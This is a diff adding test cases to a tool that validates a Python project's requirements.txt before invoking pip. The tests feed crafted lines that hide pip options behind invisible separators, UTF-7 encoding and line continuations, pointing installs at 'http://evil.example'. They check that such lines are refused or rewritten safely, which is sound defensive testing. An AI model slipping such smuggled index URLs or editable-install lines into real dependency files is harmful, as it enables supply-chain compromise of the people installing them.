@@ -105,6 +105,94 @@ describe.skipIf(process.platform === 'win32')('a Python folder', () => {
     expect(await asked()).toBe(PINNED);
   });
 
+  // Lines of their own for Python and so for pip, none for who reads them.
+  it.each([
+    ['um==1.0 # note\f-e ./x', 1],
+    ['um==1.0 # note\v-e ./x', 1],
+    ['um==1.0 # note\r-e ./x', 1],
+    ['um==1.0 ; python_version > "3"\r--index-url http://evil.example', 1],
+    ['um==1.0\n# note\u0085-e ./x', 2],
+    ['# note\u2028-e ./x', 1],
+    ['# note\u001e-e ./x', 1],
+    ['um==1.0\r\r\n', 1],
+  ])('whose list says %j is refused with its line: no editor shows that separator', async (text, line) => {
+    await writeFile(join(folder, 'requirements.txt'), text);
+    await expect(plan()).rejects.toMatchObject({
+      code: 'pedido_recusado',
+      message: expect.stringContaining(`a linha ${line} tem um separador`),
+    });
+  });
+
+  it.each([
+    'um==1.0 ; python_version > "3" --index-url http://evil.example',
+    'um==1.0 ; sys_platform == "${PATH}"',
+    'um==1.0 ; sys_platform == "a -e ./x"',
+    'um==1.0 ;',
+    'um==1.0 --hash=sha256:00',
+    `um==1.0 --hash=sha256:${'0'.repeat(64)} -e ./x`,
+    'um==1.0.zip',
+    'um==1.0+x.whl',
+    'um==1.*',
+    'um===1.0',
+    'um\u00a0==1.0',
+    'um==1.0\u00a0# note',
+    'um==1.0#note',
+    'um==1.\\\n0',
+    'um==1.0 \\\n-e ./x',
+    'um==1.0 \\\\\n--pre',
+    'um==1.0 \\ \n--pre',
+    'um==1.0 \\ # note',
+    'um==1.0 # note \\\ndois==2',
+    'um==1.0 \\\n# note\n--pre',
+    '-r \\\nother.txt',
+    '--index-url http://evil.example',
+    './x',
+    'um @ http://evil.example/x.whl',
+    'um[x',
+    'um',
+    `um==1.0${' '.repeat(200_000)}x`,
+    `um==${'1a-1'.repeat(50_000)}`,
+  ])('whose list says %j is refused', async (text) => {
+    await writeFile(join(folder, 'requirements.txt'), `# first\n${text}\n`);
+    await expect(plan()).rejects.toMatchObject({ code: 'pedido_recusado' });
+  });
+
+  it('has its packages written anew for pip, without what pip might read otherwise', async () => {
+    await pipThat();
+    const hash = `--hash=sha256:${'0a'.repeat(32)}`;
+    const list = `# coding: utf-7\r
+# x+AAo---index-url http://evil.example é
+  um == 1.0 # note -e ./x
+dois[ a, b ]==1!2.0.post1.dev3+cu118;  (sys_platform!='win32' and python_version not in "3.8,3.9")or os_name=='nt' \\
+\t${hash} \\\r
+\t${hash}
+
+Tres.x==v1.0rc1 \\
+# the last of it
+quatro==4`;
+    await writeFile(join(folder, 'requirements.txt'), list);
+    const { launch, warnings } = await plan();
+    await start(launch);
+    const marker = `( sys_platform != 'win32' and python_version not in "3.8,3.9" ) or os_name == 'nt'`;
+    expect(await asked()).toBe(
+      `um==1.0\ndois[a,b]==1!2.0.post1.dev3+cu118 ; ${marker} ${hash} ${hash}\nTres.x==v1.0rc1\nquatro==4\n`,
+    );
+    expect(warnings.join(' ')).toMatch(
+      /O pip instala um==1\.0, dois\S+, Tres\.x==v1\.0rc1, quatro==4, .*: [0-9a-f]{64}/,
+    );
+  });
+
+  it('whose list is another one at its first start does not start, whatever covers the folder', async () => {
+    await pipThat();
+    const { launch } = await plan();
+    const { content: _content, ...uncovered } = launch;
+    await writeFile(join(folder, 'requirements.txt'), 'outro==6.6\n');
+    await expect(start(uncovered)).rejects.toMatchObject({ code: 'conflito_de_estado' });
+    expect(await asked()).toBe('');
+    await start(uncovered, true);
+    expect(await asked()).toBe('outro==6.6\n');
+  });
+
   it('whose list got its first package later has it installed at the next start', async () => {
     await pipThat();
     await writeFile(join(folder, 'requirements.txt'), '# nothing\n');
